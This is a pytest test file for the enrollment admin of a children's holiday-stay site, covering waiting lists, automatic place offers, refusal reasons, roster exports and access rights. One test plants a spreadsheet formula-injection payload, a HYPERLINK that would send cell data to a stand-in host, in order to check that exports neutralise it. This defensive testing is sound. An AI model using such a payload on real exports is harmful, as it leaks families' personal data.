"""Inscriptions in the admin: deciding offer by offer, the waiting list, rosters, the dashboard panel."""

import csv
import datetime
import io
from decimal import Decimal
from html import unescape

import openpyxl
import pytest
from allauth.account.models import EmailAddress
from bs4 import BeautifulSoup
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import dateformat, timezone
from wagtail.models import PageLogEntry

from memberspace.enrollments import services as service
from memberspace.enrollments.models import Enrollment, EnrollmentStatus
from memberspace.families.models import Child, Guardianship
from tests import dates
from tests.auth import login_staff
from tests.factories import StayPageFactory, UserFactory

pytestmark = pytest.mark.django_db

Status = EnrollmentStatus
BULK = {
    action: reverse("wagtail_bulk_action", args=["enrollments", "enrollment", action])
    for action in ("refuse", "validate")
}
ENROLLMENTS = reverse("enrollments_enrollment_modeladmin_index")


def text(response):
    return unescape(BeautifulSoup(response.content, "html.parser").get_text(" ", strip=True))


def rows(response):
    soup = BeautifulSoup(response.content, "html.parser")
    return [unescape(row.get_text(" ", strip=True)) for row in soup.select("table.listing tbody tr")]


def family(number, *, health_notes="", second_parent=False, **child_fields):
    guardian = UserFactory(
        email=f"parent{number}@exemple.fr",
        first_name=f"Parent{number}",
        last_name=f"Famille{number}",
        phone="+33612345678",
        account_status="validated",
    )
    EmailAddress.objects.create(user=guardian, email=guardian.email, verified=True, primary=True)
    child = Child.objects.create(
        first_name=f"Enfant{number}",
        last_name=f"Famille{number}",
        birth_date=dates.years_before(dates.offer_start(), 8),
        health_notes=health_notes,
        **child_fields,
    )
    Guardianship.objects.create(child=child, parent=guardian, relationship="mere")
    if second_parent:
        other = UserFactory(email=f"autre{number}@exemple.fr", first_name="Autre", last_name=f"Famille{number}")
        Guardianship.objects.create(child=child, parent=other, relationship="pere")
    return guardian, child


def request(offer, number, **kwargs):
    guardian, child = family(number, **kwargs)
    (enrollment,) = service.request_enrollments(guardian, offer=offer, children=[child])
    return enrollment


@pytest.fixture
def stay(stay_index):
    return StayPageFactory(
        parent=stay_index,
        title="Voile à Quiberon",
        capacity=2,
        start_date=dates.offer_start(),
        end_date=dates.offer_start() + datetime.timedelta(days=5),
        deposit_amount=Decimal("200.00"),
    )


@pytest.fixture
def staff_client(client, secretary):
    return login_staff(client, secretary)


def test_the_requests_of_an_offer_in_arrival_order_with_its_figures(staff_client, stay, secretary):
    first, second, third = (request(stay, n) for n in range(3))
    service.validate(second, by=secretary)
    service.waitlist(third, by=secretary)
    response = staff_client.get(ENROLLMENTS, {"offre": stay.pk})
    assert response.status_code == 200
    listed = rows(response)
    assert [row.split()[0] for row in listed] == ["Enfant0", "Enfant1", "Enfant2"]
    figures = text(response)
    assert "Places 2 Validées 1 Proposées 0 Places libres 1 À décider 1 Liste d'attente 1" in figures
    # Each waiting request's position in the offer's line; the waitlisted one's rank on the list too.
    assert "Demandée 1re" in listed[0] and "Validée —" in listed[1]
    # Second family waiting for a place: the request before it, not decided yet, counts whatever its fate.
    assert "Liste d'attente 3e · attente : 2e" in listed[2]
    # The free place waits for the older request's decision: the waiting list is not served past it.
    assert "la demande de Enfant0 Famille0, arrivée avant la liste d'attente, attend votre décision" in figures
    assert "Exporter en CSV" in figures and "Exporter en XLSX" in figures


def test_validating_from_the_row_sends_the_terms_and_past_capacity_is_refused(staff_client, stay, secretary):
    enrollments = [request(stay, n) for n in range(3)]
    page = staff_client.get(f"{ENROLLMENTS}validate/{enrollments[0].pk}/")
    assert "Valider l'inscription : Enfant0 Famille0 pour « Voile à Quiberon »" in text(page)
    for enrollment in enrollments[:2]:
        response = staff_client.post(f"{ENROLLMENTS}validate/{enrollment.pk}/", follow=True)
        assert "les parents reçoivent l'acompte" in text(response)
    response = staff_client.post(f"{ENROLLMENTS}validate/{enrollments[2].pk}/", follow=True)
    assert "« Voile à Quiberon » est complet (2 places prises sur 2)" in text(response)
    statuses = list(Enrollment.objects.in_arrival_order().values_list("status", flat=True))
    assert statuses == [Status.VALIDATED, Status.VALIDATED, Status.REQUESTED]


def test_a_refusal_asks_for_its_reason_and_keeps_nothing_lost(staff_client, stay):
    enrollment = request(stay, 1)
    response = staff_client.post(f"{ENROLLMENTS}refuse/{enrollment.pk}/", {"reason": ""})
    assert response.status_code == 200
    assert "Indiquez le motif du refus" in text(response)
    enrollment.refresh_from_db()
    assert enrollment.status == Status.REQUESTED
    staff_client.post(f"{ENROLLMENTS}refuse/{enrollment.pk}/", {"reason": "Âge minimum non atteint"})
    enrollment.refresh_from_db()
    assert enrollment.status == Status.REFUSED and enrollment.refusal_reason == "Âge minimum non atteint"


# A refusal's reason is sent to the family: never cut by the browser, counted as it is typed (issue 13, item 9)

LONG_REASON = "Le séjour « d'hiver » est réservé aux 8-12 ans <révolus> & inscrits ; " * 20  # 1,400 characters


def test_the_reason_forms_are_counted_and_never_cut_by_the_browser():
    from memberspace.accounts.admin import ReasonForm as AccountReasonForm
    from memberspace.enrollments.admin import ReasonForm as EnrollmentReasonForm

    for form_class in (AccountReasonForm, EnrollmentReasonForm):
        attrs = form_class.base_fields["reason"].widget.attrs
        assert attrs.get("data-maxchars") == "1000"
        assert "maxlength" not in attrs


def test_too_long_a_reason_is_refused_with_a_message_and_kept_whole(staff_client, stay):
    enrollment = request(stay, 1)
    response = staff_client.post(f"{ENROLLMENTS}refuse/{enrollment.pk}/", {"reason": LONG_REASON})
    assert response.status_code == 200
    assert "au plus 1000 caractères" in text(response).replace("\u202f", " ").replace("\xa0", " ")
    textarea = BeautifulSoup(response.content, "html.parser").find("textarea", attrs={"name": "reason"})
    assert textarea.get_text().removeprefix("\n") == LONG_REASON and textarea.get("maxlength") is None
    enrollment.refresh_from_db()
    assert enrollment.status == Status.REQUESTED and enrollment.refusal_reason == ""


def test_the_refusal_page_counts_the_reason_as_it_is_typed(staff_client, stay):
    enrollment = request(stay, 1)
    page = BeautifulSoup(staff_client.get(f"{ENROLLMENTS}refuse/{enrollment.pk}/").content, "html.parser")
    assert page.find("textarea", attrs={"name": "reason", "data-maxchars": "1000"})
    assert page.find("script", src=lambda src: src and "js/char-counter" in src)
    model = page.find("template", id="char-counter")
    assert model is not None and "{count} caractères restants" in str(model)


def test_waitlist_deposit_and_cancel_from_the_row(staff_client, stay):
    waiting, paying = request(stay, 1), request(stay, 2)
    staff_client.post(f"{ENROLLMENTS}waitlist/{waiting.pk}/")
    staff_client.post(f"{ENROLLMENTS}validate/{paying.pk}/")
    staff_client.post(
        f"{ENROLLMENTS}payment/{paying.pk}/",
        {"amount": "200", "method": "cheque", "payer": "family", "received_on": timezone.localdate().isoformat()},
    )
    staff_client.post(f"{ENROLLMENTS}cancel/{waiting.pk}/")
    waiting.refresh_from_db()
    paying.refresh_from_db()
    assert waiting.status == Status.CANCELLED and paying.status == Status.DEPOSIT_RECEIVED


def test_a_selection_is_validated_in_arrival_order_up_to_the_capacity(staff_client, stay):
    enrollments = [request(stay, n) for n in range(3)]
    ids = "&".join(f"id={e.pk}" for e in reversed(enrollments))
    url = BULK["validate"] + f"?{ids}&next={ENROLLMENTS}"
    confirm = staff_client.get(url)
    assert "Ces 3 demandes sont concernées (dans l'ordre d'arrivée)" in text(confirm)
    response = staff_client.post(url, follow=True)
    page = text(response)
    assert "2 inscription(s) validée(s)" in page
    assert "est complet (2 places prises sur 2) : l'inscription de Enfant2 Famille2" in page
    statuses = list(Enrollment.objects.in_arrival_order().values_list("status", flat=True))
    assert statuses == [Status.VALIDATED, Status.VALIDATED, Status.REQUESTED]


def test_a_selection_is_refused_with_one_reason(staff_client, stay):
    enrollments = [request(stay, n) for n in range(2)]
    ids = "&".join(f"id={e.pk}" for e in enrollments)
    url = BULK["refuse"] + f"?{ids}&next={ENROLLMENTS}"
    assert "Indiquez le motif du refus" in text(staff_client.post(url, {"reason": ""}))
    staff_client.post(url, {"reason": "Séjour annulé faute d'encadrants"})
    assert set(Enrollment.objects.values_list("status", "refusal_reason")) == {
        (Status.REFUSED, "Séjour annulé faute d'encadrants")
    }


def test_a_freed_place_is_offered_to_the_first_on_the_waiting_list_and_shown(staff_client, stay, secretary):
    validated = [request(stay, n) for n in range(2)]
    for enrollment in validated:
        service.validate(enrollment, by=secretary)
    first_waiting, second_waiting = request(stay, 5), request(stay, 6)
    assert first_waiting.status == second_waiting.status == Status.WAITLISTED
    assert "Places proposées" not in text(staff_client.get(ENROLLMENTS, {"offre": stay.pk}))
    service.cancel_by_staff(validated[0], by=secretary)
    first_waiting.refresh_from_db()
    second_waiting.refresh_from_db()
    assert (first_waiting.status, second_waiting.status) == (Status.OFFERED, Status.WAITLISTED)
    page = text(staff_client.get(ENROLLMENTS, {"offre": stay.pk}))
    assert "Places 2 Validées 1 Proposées 1 Places libres 0" in page
    deadline = dateformat.format(timezone.localtime(first_waiting.place_offer.expires_at), "j F Y à H:i")
    assert f"Enfant5 Famille5 — réponse attendue avant le {deadline}" in page


def test_the_secretariat_pauses_and_resumes_the_automatic_offers(staff_client, stay, secretary):
    validated = [request(stay, n) for n in range(2)]
    for enrollment in validated:
        service.validate(enrollment, by=secretary)
    waiting = request(stay, 5)
    pause = reverse("enrollments_enrollment_modeladmin_automatic_offers", args=[stay.pk, "pause"])
    page = text(staff_client.post(pause, follow=True))
    assert "ne sont plus proposées automatiquement" in page
    service.cancel_by_staff(validated[0], by=secretary)
    waiting.refresh_from_db()
    assert waiting.status == Status.WAITLISTED  # paused: the place waits
    page = text(staff_client.get(ENROLLMENTS, {"offre": stay.pk}))
    assert "Propositions automatiques suspendues : les places libérées ne sont pas proposées" in page
    assert "(1 place libre)" in page
    resume = reverse("enrollments_enrollment_modeladmin_automatic_offers", args=[stay.pk, "resume"])
    page = text(staff_client.post(resume, follow=True))
    assert "de nouveau proposées automatiquement : 1 proposition envoyée" in page
    waiting.refresh_from_db()
    assert waiting.status == Status.OFFERED
    actions = list(PageLogEntry.objects.filter(page=stay).values_list("action", "user"))
    assert ("po.waiting_list.pause", secretary.pk) in actions and ("po.waiting_list.resume", secretary.pk) in actions


def test_only_who_decides_may_pause_the_automatic_offers(client, stay, editor):
    login_staff(client, editor)
    pause = reverse("enrollments_enrollment_modeladmin_automatic_offers", args=[stay.pk, "pause"])
    assert client.post(pause).status_code == 403
    assert client.get(pause).status_code == 405
    assert not service.automatic_offers_paused(stay)


def roster_rows(response, file_format):
    if file_format == "csv":
        content = response.content.decode("utf-8")
        assert content.startswith("\ufeff")
        return list(csv.reader(io.StringIO(content.lstrip("\ufeff")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_roster_lists_the_enrolled_children_with_their_guardians(staff_client, stay, secretary, file_format):
    enrolled = request(stay, 1, health_notes="Allergie aux arachides", second_parent=True)
    service.validate(enrolled, by=secretary)
    request(stay, 2)  # requested, not enrolled
    response = staff_client.get(f"{ENROLLMENTS}roster/{stay.pk}/{file_format}/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="inscrits-voile-a-quiberon-')
    header, *data = roster_rows(response, file_format)
    assert header[:4] == ["Nom", "Prénom", "Date de naissance", "Âge au début"]
    assert "Responsable 2" in header and header[-5:] == [
        "État",
        "Référence",
        "Acompte",
        "Acompte reçu le",
        "Informations de santé",
    ]
    (row,) = data
    record = dict(zip(header, row, strict=True))
    assert record["Prénom"] == "Enfant1" and str(record["Âge au début"]) == "8"
    assert record["Responsable 1"] == "Parent1 Famille1" and record["E-mail 1"] == "parent1@exemple.fr"
    assert record["Téléphone 1"] == "06 12 34 56 78" and record["Responsable 2"] == "Autre Famille1"
    assert record["État"] == "Validée" and record["Informations de santé"] == "oui"
    assert "arachides" not in str(row)  # a flag, not the content
    assert record["Acompte"] == ("200,00" if file_format == "csv" else 200)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_roster_gives_the_team_on_site_the_emergency_contact_leaving_alone_and_image_rights(
    staff_client, stay, secretary, file_format
):
    formula = '=HYPERLINK("http://exemple.test/?x="&A2,"Voir")'
    allowed = request(
        stay,
        1,
        health_notes="Asthme : ventoline dans le sac",
        emergency_contact_name=formula,
        emergency_contact_phone="0698765432",
        may_leave_alone=True,
        image_rights_consent=True,
    )
    kept = request(stay, 2, emergency_contact_name="Mamie D'Almeida", emergency_contact_phone="+33 1 42 00 00 00")
    for enrollment in (allowed, kept):
        service.validate(enrollment, by=secretary)
    response = staff_client.get(f"{ENROLLMENTS}roster/{stay.pk}/{file_format}/")
    header, *data = roster_rows(response, file_format)
    records = {row[1]: dict(zip(header, row, strict=True)) for row in data}
    first, second = records["Enfant1"], records["Enfant2"]
    assert first["Personne à prévenir"] == "'" + formula  # neutralised: never a formula
    assert first["Téléphone d'urgence"] == "06 98 76 54 32"
    assert (first["Repart seul(e)"], first["Droit à l'image"]) == ("oui", "oui")
    assert second["Personne à prévenir"] == "Mamie D'Almeida"
    assert second["Téléphone d'urgence"] == "01 42 00 00 00"
    assert (second["Repart seul(e)"], second["Droit à l'image"]) == ("non", "non")
    assert (first["Informations de santé"], second["Informations de santé"]) == ("oui", "non")
    assert "ventoline" not in str(data)  # the health notes stay on the secretariat's screen


def test_a_communication_editor_sees_no_enrollment_nor_roster(client, editor, stay):
    enrollment = request(stay, 1)
    login_staff(client, editor)
    for url in (
        ENROLLMENTS,
        f"{ENROLLMENTS}inspect/{enrollment.pk}/",
        f"{ENROLLMENTS}validate/{enrollment.pk}/",
        f"{ENROLLMENTS}roster/{stay.pk}/csv/",
        f"{ENROLLMENTS}roster/{stay.pk}/xlsx/",
        BULK["validate"] + f"?id={enrollment.pk}",
    ):
        response = client.get(url)
        assert response.status_code == 403, url
        assert "Enfant1" not in response.content.decode()
    assert client.post(f"{ENROLLMENTS}validate/{enrollment.pk}/").status_code == 403
    assert "Inscriptions" not in text(client.get("/admin/"))
    enrollment.refresh_from_db()
    assert enrollment.status == Status.REQUESTED


def test_the_admin_home_shows_fill_rates_and_the_requests_waiting(staff_client, stay, secretary, stay_index):
    empty = StayPageFactory(
        parent=stay_index, title="Cirque", capacity=12, start_date=dates.offer_start(), end_date=dates.offer_start()
    )
    StayPageFactory(
        parent=stay_index, title="Fermé", closed=True, start_date=dates.offer_start(), end_date=dates.offer_start()
    )
    StayPageFactory(
        parent=stay_index,
        title="Bientôt",
        not_yet_open=True,
        start_date=dates.offer_start(),
        end_date=dates.offer_start(),
    )
    oldest = request(stay, 1)
    service.validate(request(stay, 2), by=secretary)
    page = staff_client.get("/admin/")
    soup = BeautifulSoup(page.content, "html.parser")
    panel = unescape(soup.find(id="enrollments-panel-title").parent.get_text(" ", strip=True))
    assert "1 demande attend une décision." in panel
    assert "La plus ancienne, Enfant1 Famille1 pour « Voile à Quiberon »" in panel
    meters = {meter["aria-label"]: (meter["value"], meter["max"]) for meter in soup.select("meter")}
    assert meters["Remplissage de Voile à Quiberon"] == ("1", "2")
    assert meters["Remplissage de Cirque"] == ("0", "12")
    assert "Remplissage de Fermé" not in meters and "Remplissage de Bientôt" not in meters
    assert oldest.status == Status.REQUESTED and empty.live


def test_query_counts_do_not_grow_with_the_requests(staff_client, stay):
    def count(url, **params):
        with CaptureQueriesContext(connection) as queries:
            assert staff_client.get(url, params).status_code == 200
        return len(queries)

    for n in range(4):  # 2 places and a margin of 1: three to decide, one on the waiting list
        request(stay, n)
    count(ENROLLMENTS)  # the session's and the settings' first reads
    few = (count(ENROLLMENTS, offre=stay.pk), count("/admin/"))
    for n in range(4, 16):
        request(stay, n, second_parent=True)
    many = (count(ENROLLMENTS, offre=stay.pk), count("/admin/"))
    assert many == few


def test_the_late_deposits_are_always_listed_for_the_secretariat(staff_client, stay, secretary):
    """The daily email names each late deposit once (on its family's reminder); the listing keeps them all."""
    today = timezone.localdate()
    long_ago = timezone.now() - datetime.timedelta(days=40)
    late = request(stay, 1)
    on_time = request(stay, 2)
    Enrollment.objects.filter(pk=late.pk).update(
        status=Status.VALIDATED,
        validated_at=long_ago,
        deposit_due_date=today - datetime.timedelta(days=3),
        deposit_reminder_sent_at=long_ago,  # reminded already: no longer in any daily email
    )
    Enrollment.objects.filter(pk=on_time.pk).update(
        status=Status.VALIDATED, validated_at=timezone.now(), deposit_due_date=today + datetime.timedelta(days=15)
    )
    response = staff_client.get(ENROLLMENTS, {"acompte": "en-retard"})
    assert response.status_code == 200
    listed = rows(response)
    assert len(listed) == 1 and late.child.first_name in listed[0]
    assert "À relancer (en retard)" in text(staff_client.get(ENROLLMENTS))
